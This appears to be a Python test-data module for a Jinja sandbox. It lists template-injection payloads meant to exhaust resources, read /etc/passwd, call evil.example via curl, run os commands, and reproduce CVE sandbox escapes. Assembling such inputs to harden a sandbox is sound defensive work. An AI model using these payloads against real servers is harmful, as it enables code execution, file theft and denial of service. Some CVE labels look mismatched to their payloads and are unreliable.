"""What people write in templates to get out of them, by what they are after.

The public ones: Jinja's own advisories, PayloadsAllTheThings, HackTricks.
"""

from __future__ import annotations

ENDLESS = [
    "{% for x in range(10**12) %}x{% endfor %}",
    "{% for x in cycler('a') %}x{% endfor %}",
    "{% for x in animaux recursive %}{{ loop(animaux) }}{% endfor %}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "{% set ns = namespace(n=0) %}{% for x in nom %}{% set ns.n = 1 %}{% endfor %}",
    "{% while true %}{% endwhile %}",
    "{% block b %}{{ self.b() }}{% endblock %}",
]

HUGE = [
    "{{ 'a' * 1000000000 }}",
    "{{ nom * 1000000000 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ range(99999)|join(range(99999)|join) }}",
    "{{ nom|center(1000000000) }}",
    "{{ nom|indent(1000000000) }}",
    "{{ '%1000000000d'|format(nb_actes) }}",
    "{{ '{:>1000000000}'.format(nom) }}",
    "{{ nom.ljust(1000000000) }}",
    "{{ lipsum(n=100000) }}",
    "{{ [nom] * 1000000000 }}",
    "{{ nom ~ nom }}",
    "{{ nom" + "|upper" * 3000 + " }}",
]

FILES = [
    "{% include '/etc/passwd' %}",
    "{% include '../relance.toml' ignore missing %}",
    "{% include animaux %}",
    "{% import '/etc/passwd' as x %}",
    "{% from '/etc/passwd' import x with context %}",
    "{% extends '/etc/passwd' %}",
    "{{ open('/etc/passwd').read() }}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
]

NETWORK = [
    "{% include 'http://evil.example/x' %}",
    "{% import 'https://evil.example/x' as x %}",
    "{{ get('http://evil.example') }}",
    "{{ urlopen('http://evil.example') }}",
    "{{ cycler.__init__.__globals__.os.popen('curl evil.example').read() }}",
    "{{ joiner.__init__.__globals__.__builtins__.__import__('socket') }}",
    "{{ nom|urlize }}",
]

ATTRIBUTES = [
    "{{ nom.__class__ }}",
    "{{ nom['__class__'] }}",
    "{{ nom['__cla' 'ss__'] }}",
    "{{ nom['__cla' ~ 'ss__'] }}",
    "{{ nom['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ nom.upper() }}",
    "{{ nb_actes.real }}",
    "{{ nom[0] }}",
    "{{ nom[1:3] }}",
    "{{ nom|attr('__class__') }}",
    "{{ nom|attr('\\u005f\\u005fclass\\u005f\\u005f') }}",
    "{{ [nom]|map(attribute='__class__')|list }}",
    "{{ [nom]|groupby('__class__') }}",
    "{{ [nom]|selectattr('__class__')|list }}",
    "{{ [nom]|sum(attribute='__class__') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ().__class__.__base__ }}",
    "{{ {}.__class__ }}",
    "{{ self.__dict__ }}",
    "{{ self._TemplateReference__context }}",
]

IMPORTS = [
    "{{ __import__('os').system('id') }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{ dict.__base__.__subclasses__() }}",
    "{{ range.__class__.__mro__ }}",
    "{{ url_for.__globals__ }}",
    "{{ request.application.__globals__ }}",
    "{{ config.items() }}",
    "{{ eval('1') }}",
    "{% do nom.upper() %}",
    "{% debug %}",
    "{% trans %}x{% endtrans %}",
    "{% autoescape false %}x{% endautoescape %}",
    "{% call(x) nom() %}x{% endcall %}",
    "{% filter attr('__class__') %}x{% endfilter %}",
    "{{ ｏｓ }}",
]

# Advisories of the sandbox itself.
ADVISORIES = {
    "CVE-2016-10745": "{{ '{0.__class__.__init__.__globals__}'.format(nom) }}",
    "CVE-2019-10906": "{{ '{a.__class__}'.format_map({'a': nom}) }}",
    "CVE-2014-1402": "{% set x = nom %}{{ x }}",
    "CVE-2024-22195": "{{ {'onload=alert(1) x': 1}|xmlattr }}",
    "CVE-2024-34064": "{{ {'x/onload=alert(1)': 1}|xmlattr }}",
    "CVE-2024-56201": "{% include '{{ x }}\\n__import__(\"os\")' %}",
    "CVE-2024-56326": "{{ ['{0.__class__}'.format]|map('call', nom)|list }}",
    "CVE-2025-27516": "{{ ('{0.__class__}'|attr('format'))(nom) }}",
}

EVERYTHING = [
    *ENDLESS, *HUGE, *FILES, *NETWORK, *ATTRIBUTES, *IMPORTS, *ADVISORIES.values(),
]  # fmt: skip
